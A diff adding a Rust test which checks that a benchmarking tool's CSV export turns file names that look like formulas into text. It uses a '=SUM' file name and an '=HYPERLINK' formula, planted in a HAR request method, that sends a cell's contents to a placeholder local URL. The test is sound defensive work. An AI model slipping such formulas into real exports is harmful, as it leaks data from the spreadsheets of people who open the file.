@@ -77,3 +77,81 @@ fn a_media_type_with_parameters_is_kept_without_them() {
     assert!(types.contains(" application/json"), "{types}");
     assert!(!types.contains("charset"), "{types}");
 }
+
+/// Whether gnumeric's importer is here; in CI it must be (`.ci/run` installs it).
+fn ssconvert_present() -> bool {
+    crate::common::present("ssconvert", "--version", "gnumeric")
+}
+
+/// Every cell of `csv` as gnumeric reads it, written back out as CSV text.
+fn spreadsheet_cells(csv: &Path) -> Vec<String> {
+    let back = csv.with_extension("back.csv");
+    let output = std::process::Command::new("ssconvert")
+        .args(["--export-type=Gnumeric_stf:stf_csv"])
+        .arg(csv)
+        .arg(&back)
+        .output()
+        .unwrap();
+    assert!(output.status.success(), "{output:?}");
+    let text = std::fs::read_to_string(back).unwrap();
+    csv::ReaderBuilder::new()
+        .has_headers(false)
+        .from_reader(text.as_bytes())
+        .records()
+        .flat_map(|r| r.unwrap().iter().map(String::from).collect::<Vec<_>>())
+        .collect()
+}
+
+#[test]
+fn names_that_are_formulas_reach_a_spreadsheet_as_text() {
+    let dir = tempfile::tempdir().unwrap();
+    // A file named as a formula, named on the command line as it is.
+    std::fs::write(dir.path().join("=SUM(2,5)"), br#"[{"id":1,"name":"a"}]"#).unwrap();
+    // A capture whose first request's method is a formula that leaks a cell.
+    let mut har: Value =
+        serde_json::from_slice(&std::fs::read("tests/fixtures/capture.har").unwrap()).unwrap();
+    let link = r#"=HYPERLINK("http://127.0.0.1:9/?leak="&B2,"click")"#;
+    har["log"]["entries"][0]["request"]["method"] = Value::String(link.into());
+    let capture = dir.path().join("capture.har");
+    std::fs::write(&capture, serde_json::to_vec(&har).unwrap()).unwrap();
+    let csv = dir.path().join("run.csv");
+    succeed(codecbench().current_dir(dir.path()).args([
+        "run",
+        "--quick",
+        "--quiet",
+        "--codecs",
+        "gzip",
+        "--gzip-levels",
+        "1",
+        "--payload",
+        "=SUM(2,5)",
+        "--payload",
+        capture.to_str().unwrap(),
+        "--export-csv",
+        csv.to_str().unwrap(),
+    ]));
+    let written = std::fs::read_to_string(&csv).unwrap();
+    assert!(written.contains("'=SUM(2,5)"), "{written}");
+    assert!(written.contains("'=HYPERLINK("), "{written}");
+    // codecbench's own reader gives the names back as they were.
+    let merged = succeed(
+        codecbench()
+            .args(["merge", "--format", "markdown"])
+            .arg(&csv),
+    );
+    let table = String::from_utf8(merged.stdout).unwrap();
+    assert!(
+        table.contains("=SUM(2,5)") && !table.contains("'=SUM"),
+        "{table}"
+    );
+    if !ssconvert_present() {
+        return;
+    }
+    let cells = spreadsheet_cells(&csv);
+    assert!(
+        !cells.iter().any(|c| c == "7"),
+        "a formula was evaluated: {cells:?}"
+    );
+    assert!(cells.iter().any(|c| c.contains("=SUM(2,5)")), "{cells:?}");
+    assert!(cells.iter().any(|c| c.contains("=HYPERLINK(")), "{cells:?}");
+}
